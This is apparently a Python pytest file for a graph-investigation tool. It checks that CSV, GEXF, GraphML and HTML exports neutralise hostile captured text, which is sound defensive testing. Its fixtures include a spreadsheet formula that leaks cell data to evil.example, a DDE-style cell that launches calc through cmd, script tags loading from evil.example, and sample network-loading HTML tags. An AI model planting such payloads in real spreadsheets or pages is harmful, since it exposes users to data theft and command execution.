"""Exports of hostile captured text: formula cells, control characters, broken
surrogates and markup that names another host. Each export still works and what it
writes is inert (issue 20, "Exports and the rest")."""

from __future__ import annotations

import csv
import io
import xml.etree.ElementTree as ET

import networkx as nx
import pandas as pd
import pytest
from click.testing import CliRunner

from fixture_graph import ALICE, build_fixture_graph
from graphinv.app.pages.console import to_csv
from graphinv.cli import main
from graphinv.commands.query_export import render
from graphinv.errors import GraphinvError
from graphinv.export import write
from graphinv.export.common import xml_text
from graphinv.export.html_graph import check_offline, external_loads

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
LOADER = "see src=//evil.example/x.js and <script src='https://evil.example/a.js'></script>"
HOSTILE_POST = "post:twitter:666"
# Every C0 control (tab, LF and CR are legal XML, the rest are not) and two lone
# surrogates, as captured text carries them (a tweet cut inside an emoji).
CONTROLS = "".join(chr(c) for c in range(0x20)) + "\ud83d cut emoji \udc00"


@pytest.fixture
def hostile_uri(store):
    """The fixture graph plus a post whose text is a formula and an account whose
    display name is a formula, in each store; the store closed, for the CLI."""
    build_fixture_graph(store)
    store.upsert_nodes("Post", pd.DataFrame([{"uid": HOSTILE_POST, "platform": "twitter", "post_id": "666",
                                              "account": ALICE, "text": FORMULA, "title": LOADER,
                                              "created_at": 1709251200}]))
    store.upsert_nodes("Account", pd.DataFrame([{"uid": ALICE, "display_name": "+1+cmd|' /C calc'!A0",
                                                 "followers": -5}]))
    store.upsert_edges("POSTED", pd.DataFrame([{"src": ALICE, "dst": HOSTILE_POST, "time": 1709251200}]))
    uri = store.uri
    store.close()
    return uri


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def _invoke(*args: str) -> str:
    import graphinv.commands.query_export  # noqa: F401 - registers `query` and `export`

    result = CliRunner().invoke(main, list(args))
    assert result.exit_code == 0, result.output
    return result.output


def test_export_csv_neutralises_formula_cells(hostile_uri, tmp_path):
    _invoke("export", "csv", "--out", str(tmp_path / "csv"), "--store", hostile_uri)
    nodes = {row["uid"]: row for row in csv.DictReader(open(tmp_path / "csv" / "nodes.csv", encoding="utf-8"))}
    assert nodes[HOSTILE_POST]["text"] == "'" + FORMULA
    assert nodes[ALICE]["display_name"] == "'+1+cmd|' /C calc'!A0"
    assert float(nodes[ALICE]["followers"]) == -5  # a number stays a number
    assert not any(cell.startswith(("=", "+", "@")) for row in nodes.values() for cell in row.values())


def test_query_csv_neutralises_formula_cells(hostile_uri):
    out = _invoke("query", "--cypher", "MATCH (p:Post) WHERE p.uid = $u RETURN p.text AS text, -1 AS n, "
                  "['=1+1'] AS l", "--param", f"u={HOSTILE_POST}", "--format", "csv", "--store", hostile_uri)
    assert _cells(out) == [["text", "n", "l"], ["'" + FORMULA, "-1", '["=1+1"]']]


@pytest.mark.parametrize("write_csv", [to_csv, lambda frame: render(frame, "csv")], ids=["console", "query"])
def test_every_csv_writer_neutralises_the_same_cells(write_csv):
    # The OWASP rule: = + - @ tab CR at the start of a text cell; numbers untouched.
    # A CR starts a cell here as CR LF: pandas leaves a lone CR unquoted (a row break).
    frame = pd.DataFrame({"text": ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\r\nx", "a=b", "", None],
                          "n": [-1, -2.5, 0, 3, 4, 5, 6, 7, 8]})
    rows = _cells(write_csv(frame))[1:]
    assert [r[0] for r in rows] == ["'=1+1", "'+1", "'-1", "'@SUM(A1)", "'\tx", "'\r\nx", "a=b", "", ""]
    assert [r[1] for r in rows] == ["-1.0", "-2.5", "0.0", "3.0", "4.0", "5.0", "6.0", "7.0", "8.0"]


def _control_graph() -> nx.MultiDiGraph:
    G = nx.MultiDiGraph()
    G.add_node("account:twitter:bell" + CONTROLS, kind="Account", label="bell" + CONTROLS,
               display_name=CONTROLS, aliases=["a" + CONTROLS, "b"], time=1709251200)
    G.add_node("post:twitter:1", kind="Post", label="post", text="text" + CONTROLS, time=1709251200)
    G.add_edge("account:twitter:bell" + CONTROLS, "post:twitter:1", key="edge" + CONTROLS, kind="POSTED",
               weight=1.0, anchor=CONTROLS, time=1709251200)
    return G


@pytest.mark.parametrize("fmt", ["gexf", "graphml"])
def test_xml_exports_strip_characters_xml_cannot_hold(fmt, tmp_path):
    path = write(_control_graph(), fmt, tmp_path / f"g.{fmt}")[0]
    ET.parse(path)  # well-formed XML
    back = nx.read_gexf(path) if fmt == "gexf" else nx.read_graphml(path, force_multigraph=True)
    kept = "\t\n\r cut emoji "  # what XML can hold of CONTROLS
    assert xml_text(CONTROLS) == kept
    bell = "account:twitter:bell" + kept
    assert set(back.nodes) == {bell, "post:twitter:1"}
    assert back.nodes[bell]["display_name"] == kept and back.nodes["post:twitter:1"]["text"] == "text" + kept
    assert back.nodes[bell]["aliases"] == f"a{kept}; b"
    (data,) = [d for *_, d in back.edges(data=True)]
    assert data["anchor"] == kept


@pytest.mark.parametrize("fmt", ["gexf", "graphml"])
def test_xml_exports_of_stored_control_characters(fmt, store, tmp_path):
    text = "".join(chr(c) for c in range(1, 0x20)) + "end"
    build_fixture_graph(store)
    store.upsert_nodes("Post", pd.DataFrame([{"uid": HOSTILE_POST, "platform": "twitter", "post_id": "666",
                                              "account": ALICE, "text": text}]))
    uri = store.uri
    store.close()
    out = tmp_path / f"all.{fmt}"
    _invoke("export", fmt, "--out", str(out), "--store", uri)
    ET.parse(out)
    back = nx.read_gexf(out) if fmt == "gexf" else nx.read_graphml(out, force_multigraph=True)
    assert back.nodes[HOSTILE_POST]["text"] == "\t\n\rend"


def test_captured_text_never_blocks_the_html_export(hostile_uri, tmp_path):
    out = tmp_path / "g.html"
    _invoke("export", "html", "--out", str(out), "--store", hostile_uri)
    page = out.read_text(encoding="utf-8")
    assert external_loads(page) == []
    assert "evil.example/x.js" in page and "<script src='https://evil.example" not in page


def test_the_offline_check_still_refuses_what_the_template_loads():
    for tag in ('<script src="https://cdn.example/vis.js"></script>', "<link rel=stylesheet href=//cdn.example/b.css>",
                '<img srcset="a.png 1x, //cdn.example/b.png 2x">', "<style>@import 'https://cdn.example/c.css';</style>",
                '<div style="background:url(//cdn.example/d.png)"></div>'):
        with pytest.raises(GraphinvError, match="would load from the network"):
            check_offline(f"<html><body>{tag}</body></html>")
    check_offline("<p>src=//evil.example/x.js</p><script>var t = \"<img src=//evil.example/y>\";</script>")
